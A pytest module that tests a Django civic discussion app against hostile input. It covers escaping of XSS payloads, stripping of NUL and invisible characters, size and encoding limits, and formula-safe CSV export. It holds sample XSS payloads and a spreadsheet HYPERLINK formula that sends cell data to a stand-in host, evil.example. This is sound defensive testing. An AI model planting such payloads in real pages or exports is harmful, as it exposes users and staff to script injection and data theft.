"""Hostile and malformed input: markup is stored as text and always rendered escaped; NUL bytes,
invisible characters, huge bodies and wrong encodings are stored safely or refused with a message,
never a 500."""

import html
import json
import re

import pytest
from django.test import Client

from clustering.services import conversation_recluster
from moderation.services import statement_reject
from statements import services
from statements.models import Statement, Vote
from tests.conftest import make_conversation, make_participant
from tests.reports.conftest import make_voted_conversation
from tests.security.conftest import api, browser, logged_in, make_user, post_json

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("xss")</script>'
PAYLOAD = SCRIPT + " <img src=x onerror=alert(1)> \"'><svg onload=alert(2)> & done"
DANGEROUS = (SCRIPT, "<img src=x onerror", "<svg onload")


def assert_escaped(response, *, shows_text=True):
    assert response.status_code == 200, response.status_code
    html = response.content.decode()
    for raw in DANGEROUS:
        assert raw not in html
    if shows_text:
        assert "&lt;script&gt;alert(" in html


@pytest.fixture
def hostile_conversation(db):
    """Every statement's text is a script payload; votes planted so a report and map exist."""
    conversation = make_voted_conversation(
        24, 6, slug="hostile", show_results=True, max_statement_length=1000
    )
    for number, statement in enumerate(Statement.objects.filter(conversation=conversation)):
        text = f"{PAYLOAD} {number}"
        Statement.objects.filter(pk=statement.pk).update(
            text=text, text_fi=text, text_key=text.casefold()
        )
    run = conversation_recluster(conversation_id=conversation.pk)
    assert run.status == "succeeded", run.error if hasattr(run, "error") else run.status
    return conversation


def test_every_page_that_shows_statement_text_escapes_it(hostile_conversation):
    conversation = hostile_conversation
    slug = conversation.slug
    resident = browser()
    assert_escaped(resident.get(f"/c/{slug}/"))
    published = Statement.objects.filter(conversation=conversation).first()
    assert (
        resident.post(
            f"/c/{slug}/vote/", {"statement": published.pk, "choice": "agree"}
        ).status_code
        == 302
    )
    assert_escaped(resident.get(f"/c/{slug}/s/{published.pk}/"))
    assert_escaped(resident.get(f"/c/{slug}/answers/"))
    # Similar published statements are offered first (escaped), then the resident sends anyway.
    assert_escaped(resident.post(f"/c/{slug}/statements/new/", {"text": PAYLOAD + " mine"}))
    assert (
        resident.post(
            f"/c/{slug}/statements/new/", {"text": PAYLOAD + " mine", "confirm": "1"}
        ).status_code
        == 302
    )
    assert_escaped(resident.get(f"/c/{slug}/statements/mine/"))
    # A duplicate of a published statement is shown back to its author, with similar ones.
    duplicate = resident.post(f"/c/{slug}/statements/new/", {"text": published.text})
    assert duplicate.status_code == 400
    assert_escaped(type("R", (), {"status_code": 200, "content": duplicate.content})())
    assert_escaped(resident.get(f"/c/{slug}/results/"))

    moderator = make_user("mod", moderator=True)
    pending = Statement.objects.pending().get(conversation=conversation)
    moderation = logged_in(moderator)
    assert_escaped(moderation.get("/moderation/queue/"))
    assert_escaped(moderation.get(f"/moderation/c/{slug}/"))
    assert_escaped(moderation.get(f"/moderation/s/{pending.pk}/"))
    statement_reject(statement_id=pending.pk, moderator=moderator, reason="off_topic")
    assert_escaped(moderation.get("/moderation/log/"))
    assert_escaped(resident.get(f"/c/{slug}/statements/mine/"))

    staff = logged_in(make_user("staff", staff=True, superuser=True))
    # "Show statements on the map" (?statements=1) puts every statement's text in a <title> of
    # its mark on the inline SVG opinion map: escaped there too, one mark per published statement.
    report = staff.get(f"/reports/{slug}/?statements=1")
    assert_escaped(report)
    opinion_map = re.search(r'<svg[^>]*class="opinion-map".*?</svg>', report.content.decode(), re.S)
    assert opinion_map, "the report has no opinion map"
    titles = re.findall(r'<g class="statement-mark"><title>(.*?)</title>', opinion_map.group(0))
    mapped = Statement.objects.filter(conversation=conversation, status="published")
    assert sorted(titles) == sorted(f"#{s.pk}: {html.escape(s.text)}" for s in mapped)
    assert all("&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;" in title for title in titles)
    assert_escaped(
        staff.get(f"/admin/statements/statement/?conversation__id__exact={conversation.pk}")
    )
    assert_escaped(staff.get(f"/admin/statements/statement/{published.pk}/change/"))


def test_api_returns_markup_as_plain_json_text(hostile_conversation):
    resident = browser()
    body = resident.get(api("next", hostile_conversation)).json()
    assert body["statement"]["text"].startswith(SCRIPT)
    assert resident.get(api("next", hostile_conversation))["Content-Type"].startswith(
        "application/json"
    )


@pytest.mark.parametrize(
    "text,stored",
    [
        ("Puisto\x00 tarvitsee penkkejä", "Puisto tarvitsee penkkejä"),
        ("Zero\u200bwidth and\u202e reversed\u2066 text", "Zerowidth and reversed text"),
        ("🌳 Lisää puita keskustaan 🌳", "🌳 Lisää puita keskustaan 🌳"),
        ("مرحبا بالجميع في هلسنكي", "مرحبا بالجميع في هلسنكي"),
        ("Tabs\tand\r\nnewlines\x07 bell", "Tabs and newlines bell"),
        # Joiners make one emoji of several and choose Persian letter forms: kept where they join.
        ("Perhe 👨\u200d👩\u200d👧 ja lippu 🏳️\u200d🌈", "Perhe 👨\u200d👩\u200d👧 ja lippu 🏳️\u200d🌈"),
        ("می\u200cخواهم پارک", "می\u200cخواهم پارک"),
        ("\u200dLoose\u200d \u200c joiners\u200d\u200c\u200dhere\u200c", "Loose joiners\u200dhere"),
    ],
    ids=[
        "nul", "zero-width-and-bidi", "emoji", "right-to-left", "control-characters",
        "joined-emoji", "persian-non-joiner", "loose-joiners",
    ],
)
def test_unusual_characters_are_stored_safely_through_api_and_form(conversation, text, stored):
    resident = browser()
    response = post_json(resident, api("statements", conversation), {"text": text})
    assert response.status_code == 201, response.content
    assert Statement.objects.get(pk=response.json()["id"]).text == stored
    Statement.objects.all().delete()
    assert (
        browser().post(f"/c/{conversation.slug}/statements/new/", {"text": text}).status_code == 302
    )
    assert Statement.objects.get().text == stored


@pytest.mark.parametrize("text", ["\x00", "\u200b\u200b", "\x00\x01\x02 \u202e"])
def test_text_that_is_only_invisible_is_refused_with_a_message(conversation, text):
    response = post_json(browser(), api("statements", conversation), {"text": text})
    assert response.status_code == 400
    assert response.json()["code"] == "empty"
    page = browser().post(f"/c/{conversation.slug}/statements/new/", {"text": text})
    assert page.status_code == 400
    assert not Statement.objects.exists()


def test_nul_bytes_in_ids_urls_and_logins_never_cause_a_server_error(conversation):
    statement = services.statement_seed(
        conversation=conversation, text="Kirjasto auki sunnuntaisin"
    )
    resident = Client(raise_request_exception=False, HTTP_HOST="localhost")
    assert (
        post_json(
            resident,
            api("votes", conversation),
            {"statement": f"{statement.pk}\x00", "choice": "agree"},
        ).status_code
        == 404
    )
    assert (
        post_json(
            resident, api("votes", conversation), {"statement": statement.pk, "choice": "agree\x00"}
        ).status_code
        == 400
    )
    assert (
        resident.post(
            f"/c/{conversation.slug}/vote/", {"statement": f"{statement.pk}\x00", "choice": "agree"}
        ).status_code
        == 302
    )
    assert resident.get(f"/c/{conversation.slug}%00/").status_code == 404
    assert resident.get(f"/c/{conversation.slug}/?lang=fi%00").status_code == 200
    assert (
        resident.post(
            "/accounts/login/", {"username": "admin\x00", "password": "x\x00"}
        ).status_code
        == 200
    )
    assert not Vote.objects.exists()


def test_staff_forms_refuse_nul_bytes_with_a_message(conversation):
    staff = logged_in(make_user("staff", staff=True, superuser=True))
    staff.raise_request_exception = False
    seeded = staff.post(
        f"/admin/statements/conversation/{conversation.pk}/seed/?lang=en",
        {"lines": "Ensimmäinen\x00 väite\nToinen väite\t\x00ruotsiksi\t"},
    )
    # Django's form fields refuse NUL characters: the form comes back with the error, nothing stored.
    assert seeded.status_code == 200
    assert "Null characters are not allowed" in seeded.content.decode()
    assert not Statement.objects.exists()
    change = staff.post(
        f"/admin/statements/conversation/{conversation.pk}/change/?lang=en",
        {"slug": conversation.slug, "title_fi": "Otsikko\x00", "question_fi": "Kysymys"},
    )
    assert change.status_code == 200  # the form is shown again with the error
    assert "Null characters are not allowed" in change.content.decode()


def test_a_ten_megabyte_body_is_refused_with_a_message_not_read(conversation):
    huge = "x" * (10 * 1024 * 1024)
    resident = Client(raise_request_exception=False, HTTP_HOST="localhost")
    response = post_json(resident, api("statements", conversation), {"text": huge})
    assert response.status_code == 413
    assert response.json()["detail"]
    page = resident.post(
        f"/c/{conversation.slug}/statements/new/",
        f"text={huge}",
        content_type="application/x-www-form-urlencoded",
    )
    assert page.status_code == 413
    assert "<h1>" in page.content.decode()
    # Its link goes back to the conversation the resident was writing in.
    assert f'href="/c/{conversation.slug}/"' in page.content.decode()
    # Multipart (as a file upload would be) is held to the same limit on every resident page,
    # answered before Django reads the body (only the admin's seed upload is exempt).
    for path in (f"/c/{conversation.slug}/statements/new/", f"/c/{conversation.slug}/vote/", "/i18n/setlang/"):
        multipart = resident.post(path + "?lang=en", {"text": huge})
        assert multipart.status_code == 413, path
        assert "The request is too large." in multipart.content.decode()
    assert not Statement.objects.exists()


def test_wrong_encodings_are_refused_or_stored_without_a_server_error(conversation):
    """A body in another encoding is either read as the encoding it declares, so the statement
    is exactly what the resident wrote, or refused with a message; no mojibake is stored."""
    resident = Client(raise_request_exception=False, HTTP_HOST="localhost")
    path = api("statements", conversation) + "?lang=en"
    not_valid_json = {"code": "parse_error", "detail": "The request body is not valid JSON."}
    invalid_utf8 = resident.post(
        path, b'{"text": "\xff\xfe broken \xe4"}', content_type="application/json"
    )
    assert invalid_utf8.status_code == 400
    assert invalid_utf8.json() == not_valid_json
    # The test client encodes a text body in the charset the Content-Type declares.
    latin1 = resident.post(
        path, '{"text": "Hämeentie"}', content_type="application/json; charset=latin-1"
    )
    assert latin1.status_code == 201, latin1.content
    assert latin1.json()["text"] == "Hämeentie"
    assert Statement.objects.get(pk=latin1.json()["id"]).text == "Hämeentie"
    utf16 = resident.post(
        path,
        json.dumps({"text": "Kävelykatu"}, ensure_ascii=False),
        content_type="application/json; charset=utf-16",
    )
    assert utf16.status_code == 201, utf16.content
    assert Statement.objects.get(pk=utf16.json()["id"]).text == "Kävelykatu"
    undeclared_utf16 = resident.post(
        path, json.dumps({"text": "Kävelykatu"}).encode("utf-16"), content_type="application/json"
    )
    assert undeclared_utf16.status_code == 400  # JSON is UTF-8 unless declared otherwise
    assert undeclared_utf16.json() == not_valid_json
    not_json = resident.post(path, b"text=plain", content_type="text/plain")
    assert not_json.status_code == 415
    assert not_json.json()["detail"] == "Send the request as JSON (Content-Type: application/json)."

    # A form whose bytes are not UTF-8 (Latin-1 "Töölön tori"): Django reads those bytes as
    # U+FFFD. The API (which takes form bodies too) refuses it with a message; so does the page,
    # which shows the text as it was read. Nothing is stored.
    unreadable = "Some characters of the statement could not be read"
    api_form = resident.post(
        path, b"text=T%F6%F6l%F6n+tori", content_type="application/x-www-form-urlencoded"
    )
    assert api_form.status_code == 400, api_form.content
    assert api_form.json()["code"] == "unreadable"
    assert api_form.json()["detail"].startswith(unreadable)
    form_url = f"/c/{conversation.slug}/statements/new/?lang=en"
    form = resident.post(
        form_url, b"text=T%F6%F6l%F6n+tori", content_type="application/x-www-form-urlencoded"
    )
    assert form.status_code == 400
    page = form.content.decode()
    assert unreadable in page
    assert "T\ufffd\ufffdl\ufffdn tori</textarea>" in page
    finnish = resident.post(
        form_url.replace("lang=en", "lang=fi"),
        b"text=T%F6%F6l%F6n+tori",
        content_type="application/x-www-form-urlencoded",
    )
    assert finnish.status_code == 400
    assert "Osaa väitteen merkeistä ei voitu lukea" in finnish.content.decode()
    # A form that declares another charset is refused by Django before the view: the 400 page.
    declared = resident.post(
        form_url,
        "text=T%F6%F6l%F6n+tori",
        content_type="application/x-www-form-urlencoded; charset=latin-1",
    )
    assert declared.status_code == 400
    assert "The request could not be understood." in declared.content.decode()
    assert sorted(Statement.objects.values_list("text", flat=True)) == ["Hämeentie", "Kävelykatu"]


def test_a_conversation_of_another_participant_cannot_be_written_through_ids(conversation):
    other = make_conversation()
    foreign = services.statement_seed(conversation=other, text="Toisen keskustelun väite")
    make_participant(conversation)
    response = post_json(
        browser(), api("votes", conversation), {"statement": foreign.pk, "choice": "agree"}
    )
    assert response.status_code == 404


def test_statement_texts_in_the_polis_export_cannot_run_as_spreadsheet_formulas(db, tmp_path):
    """Anyone may submit a statement, and staff open the export's CSV files in a spreadsheet: a
    text starting with = + - @ is written with a leading apostrophe (read as text), and reads back
    as written when the export is imported again."""
    import csv
    import io
    import zipfile

    from clustering.polis import conversation_import_polis
    from moderation.services import statement_approve
    from tests.security.conftest import logged_in, make_user

    conversation = make_conversation("formula-export")
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    submitted = services.statement_submit_by_browser(
        conversation=conversation, browser_token="t" * 32, text=formula
    )
    services.statement_seed(conversation=conversation, text="-50 % bus fares for pensioners")
    benches = services.statement_seed(conversation=conversation, text="More benches")
    services.vote_cast(participant=make_participant(conversation), statement_id=benches.pk, choice=1)
    staff_user = make_user("staff", staff=True, superuser=True)
    # Published by a moderator who missed the formula (pending statements are not exported).
    statement_approve(moderator=staff_user, statement_id=submitted.pk)
    staff = logged_in(staff_user)
    response = staff.get(f"/reports/{conversation.slug}/export.zip")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        archive.extractall(tmp_path)
    (folder,) = [path.parent for path in tmp_path.rglob("comments.csv")]
    for name, column in (("comments.csv", "comment-body"), ("comment-groups.csv", "comment")):
        with (folder / name).open(newline="", encoding="utf-8") as f:
            cells = sorted(row[column] for row in csv.DictReader(f))
        assert cells == sorted(["'" + formula, "'-50 % bus fares for pensioners", "More benches"])

    imported = conversation_import_polis(folder=folder, slug="formula-again")
    assert sorted(imported.statements.values_list("text", flat=True)) == sorted(
        [formula, "-50 % bus fares for pensioners", "More benches"]
    )


def test_lone_surrogates_and_deeply_nested_json_are_refused_with_a_message(conversation):
    """JSON may carry a lone surrogate escape (\\ud800: no character, cannot be stored) and
    arrays nested thousands deep in a few kilobytes; both get a 400 with a message, never a 500."""
    statement = services.statement_seed(conversation=conversation, text="Kävelykatu Hämeentielle")
    resident = Client(raise_request_exception=False, HTTP_HOST="localhost")
    statements_path = api("statements", conversation) + "?lang=en"
    surrogate = resident.post(
        statements_path, b'{"text": "Hello world \\ud800 statement"}', content_type="application/json"
    )
    assert surrogate.status_code == 400
    assert surrogate.json()["code"] == "unreadable"
    assert "could not be read" in surrogate.json()["detail"]
    nested = "[" * 5000 + "]" * 5000
    not_valid_json = {"code": "parse_error", "detail": "The request body is not valid JSON."}
    for path, body in (
        (statements_path, '{"text": ' + nested + "}"),
        (api("votes", conversation) + "?lang=en", nested),
        (api("votes", conversation) + "?lang=en", f'{{"statement": {statement.pk}, "choice": {nested}}}'),
    ):
        refused = resident.post(path, body, content_type="application/json")
        assert refused.status_code == 400, (path, refused.status_code)
        assert refused.json() == not_valid_json
    assert Statement.objects.filter(conversation=conversation).count() == 1
    assert Vote.objects.count() == 0


@pytest.mark.parametrize(
    ("language", "heading"), [("fi", "Sivu oli vanhentunut"), ("sv", "Sidan hade gått ut")]
)
def test_a_form_refused_by_the_csrf_check_explains_in_the_residents_language(
    conversation, language, heading
):
    """Cookies cleared (or blocked inside an embedding page) between loading the card and
    answering: Voxit's own page in the resident's language with the way back, not Django's
    English one (whose inline style our CSP blocks), and no vote."""
    statement = services.statement_seed(conversation=conversation, text="Kävelykatu Hämeentielle")
    resident = Client(enforce_csrf_checks=True, raise_request_exception=False, HTTP_HOST="localhost")
    resident.get(f"/c/{conversation.slug}/?lang={language}")
    resident.cookies.pop("csrftoken")
    refused = resident.post(
        f"/c/{conversation.slug}/vote/", {"statement": statement.pk, "choice": "agree", "csrfmiddlewaretoken": "x" * 32}
    )
    assert refused.status_code == 403
    html = refused.content.decode()
    assert f'<html lang="{language}"' in html and f"<h1>{heading}</h1>" in html
    assert f'href="/c/{conversation.slug}/"' in html
    assert "<style" not in html and " style=" not in html
    assert not Vote.objects.exists()


def test_a_too_large_body_on_the_development_server_gets_the_413_page_not_a_500(live_server, conversation):
    # `make run` serves with Django's development server, which refuses a "Connection" header
    # from the application (WSGI forbids hop-by-hop headers): the 413 became a 500.
    import urllib.error
    import urllib.request

    body = b"text=" + b"x" * (3 * 1024 * 1024)
    request = urllib.request.Request(
        f"{live_server.url}/c/{conversation.slug}/statements/new/?lang=en", data=body, method="POST"
    )
    with pytest.raises(urllib.error.HTTPError) as answer:
        urllib.request.urlopen(request, timeout=30)
    assert answer.value.code == 413
    assert "The request is too large." in answer.value.read().decode()
